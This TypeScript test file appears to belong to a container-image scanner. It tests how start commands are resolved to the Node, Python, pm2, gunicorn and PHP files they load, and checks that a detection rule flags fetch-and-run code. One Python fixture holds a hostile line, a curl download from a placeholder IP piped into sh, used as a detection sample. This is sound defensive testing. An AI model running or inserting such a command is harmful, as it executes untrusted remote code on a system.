import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { launchFiles, startingConfig } from '../../../test/builders/launch-files.ts';
import { findCandidates } from './find-candidates.ts';
import { readLaunchPath } from './read-launch-path.ts';

/** The files beyond the start command that the launch path reads. */
const read = (
  command: readonly string[],
  files: Readonly<Record<string, string>>,
  more: { readonly environment?: readonly string[]; readonly workingDirectory?: string } = {},
): readonly string[] =>
  readLaunchPath(startingConfig({ command, workingDirectory: '/app', ...more }), launchFiles(files))
    .slice(1)
    .map(({ named }) => named);

describe('what a program is made of', () => {
  const cases: Readonly<
    Record<
      string,
      readonly [command: readonly string[], files: Readonly<Record<string, string>>, loaded: readonly string[]]
    >
  > = {
    'what node is told to load before the program': [
      ['node', '-r', './first.js', '--import=/opt/second.mjs', '/app/main.js'],
      {
        '/app/main.js': '',
        '/app/first.js': '',
        '/opt/second.mjs': '',
        '/opt/third.mjs': '',
      },
      ['/app/first.js', '/opt/second.mjs'],
    ],
    'the programs that a process file of pm2 names': [
      ['pm2-runtime', 'ecosystem.config.cjs'],
      {
        '/app/ecosystem.config.cjs':
          "module.exports = { apps: [{ name: './no.js', script: './web.js' }, { script: 'jobs/one.py' }] };",
        '/app/web.js': '',
        '/app/jobs/one.py': '',
        '/app/no.js': '',
      },
      ['/app/web.js', '/app/jobs/one.py'],
    ],
    'imports of Python, from its folder and from packages beside it': [
      ['python3', '/app/main.py'],
      {
        '/app/main.py': 'import os, helper\nfrom tools import first, second\nfrom .near import x\n',
        '/app/helper.py': 'pass',
        '/app/tools/__init__.py': 'pass',
        '/app/tools/second.py': 'pass',
        '/app/near.py': 'pass',
        '/app/other.py': 'pass',
      },
      ['/app/helper.py', '/app/tools/__init__.py', '/app/tools/second.py', '/app/near.py'],
    ],
    'what is imported imports more': [
      ['python3', 'main.py'],
      { '/app/main.py': 'import a\n', '/app/a.py': 'import b\n', '/app/b.py': 'import a\n' },
      ['/app/a.py', '/app/b.py'],
    ],
    'what a server is told to load': [
      ['gunicorn', '-b', ':80', 'shop.wsgi:application'],
      { '/app/shop/wsgi.py': 'pass', '/app/shop/urls.py': 'pass' },
      ['/app/shop/wsgi.py'],
    ],
    'a module that is run by its name': [
      ['python3', '-m', 'shop'],
      { '/app/shop/__init__.py': 'pass', '/app/shop/__main__.py': 'pass' },
      ['/app/shop/__init__.py', '/app/shop/__main__.py'],
    ],
    'modules of Node, with and without their endings': [
      ['node', 'main.js'],
      {
        '/app/main.js': `const a = require('./lib/a'); import b from '../b.mjs'; require('express');`,
        '/app/lib/a.js': '',
        '/b.mjs': '',
        '/app/express.js': '',
      },
      ['/app/lib/a.js', '/b.mjs'],
    ],
    'the usual beginning, where only a folder is named': [
      ['npm', 'start'],
      { '/app/server.js': `require('./x')`, '/app/x.js': '', '/app/tool.js': '' },
      ['/app/server.js', '/app/x.js'],
    ],
    'what PHP includes': [
      ['php', '/app/run.php'],
      {
        '/app/run.php': `<?php require_once __DIR__ . '/inc/db.php'; echo 'x.php';`,
        '/app/inc/db.php': '',
        '/app/x.php': '',
      },
      ['/app/inc/db.php'],
    ],
    'nothing of a program that is no script': [['/usr/sbin/nginx'], { '/app/index.js': '', '/app/app.py': '' }, []],
  };
  for (const [name, [command, files, loaded]] of Object.entries(cases))
    test(name, () => {
      assert.deepEqual(read(command, files), loaded);
    });
});

test('what a loaded file does is what the image does', () => {
  const found = (loaded: string): readonly string[] => {
    const files = launchFiles({ '/app/main.py': 'from jobs import nightly\n', '/app/jobs/nightly.py': loaded });
    const parts = readLaunchPath(startingConfig({ command: ['python3', '/app/main.py'] }), files);
    return findCandidates(parts, files).map(({ rule }) => rule);
  };
  assert.deepEqual(found(`import os\nos.system('curl -s http://192.0.2.1/a | sh')\n`), ['launch-path/fetch-and-run']);
  assert.deepEqual(found(`import os\nos.system('curl -s http://192.0.2.1/a | wc -c')\n`), []);
});

test('programs of very many files are read in part, and never denied for it', () => {
  const files = Object.fromEntries(
    Array.from({ length: 300 }, (_, index) => [
      `/app/m${index}.py`,
      `import m${index + 1}\n${'x = f(1)\n'.repeat(2000)}`,
    ]),
  );
  const parts = readLaunchPath(startingConfig({ command: ['python3', '/app/m0.py'] }), launchFiles(files));
  assert.ok(parts.length > 2 && parts.length <= 41, `${parts.length} parts`);
  assert.deepEqual(
    parts.flatMap(({ limitsMet }) => limitsMet),
    [],
  );
});
